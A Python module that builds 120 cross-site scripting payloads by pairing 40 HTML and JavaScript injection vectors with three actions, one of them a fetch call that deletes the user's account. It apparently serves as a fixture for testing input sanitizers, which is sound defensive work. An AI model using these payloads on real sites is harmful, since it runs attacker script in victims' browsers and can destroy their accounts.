"""A hundred and twenty pieces of text that want to be a script: each way in, with each way to run."""

from itertools import product

_RUNS = ("alert(1)", "top.hurt=1", "fetch('/api/account',{method:'DELETE'})")
_WAYS = (
    "<script>{run}</script>",
    '"><script>{run}</script>',
    "<img src=x onerror={run}>",
    "<svg onload={run}>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<body onpageshow={run}>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<iframe srcdoc='<script>{run}</script>'>",
    "<iframe src=javascript:{run}>",
    "<a href=javascript:{run} autofocus>x</a>",
    "javascript:{run}",
    "data:text/html,<script>{run}</script>",
    "<object data=javascript:{run}>",
    "<embed src=javascript:{run}>",
    "<form action=javascript:{run}><button autofocus>",
    "<math href=javascript:{run}>x",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<link rel=stylesheet href=javascript:{run}>",
    "<style>@import 'javascript:{run}';</style>",
    "<div style=background:url(javascript:{run})>",
    "</textarea><script>{run}</script>",
    "</title><script>{run}</script>",
    "</script><script>{run}</script>",
    "]]><script>{run}</script>",
    "--><script>{run}</script>",
    "<scr\u0000ipt>{run}</script>",
    "<ScRiPt/x>{run}</sCrIpT>",
    "\u202e<script>{run}</script>\u2028",
    "<img/src=x/onerror={run}>",
    "<x contenteditable autofocus onfocus={run}>",
    "${{{run}}}",
    "{{{{constructor.constructor('{run}')()}}}}",
    "<template shadowrootmode=open><script>{run}</script>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<base href=javascript:{run}//>",
    "<button popovertarget=x onclick={run} autofocus>",
    "<audio src=x onerror={run}>",
    "<marquee onstart={run}>",
)
PAYLOADS = tuple(way.replace("\u0000", "").format(run=run) for way, run in product(_WAYS, _RUNS))
"""Without NUL, which every text field refuses."""
assert len(PAYLOADS) == 120
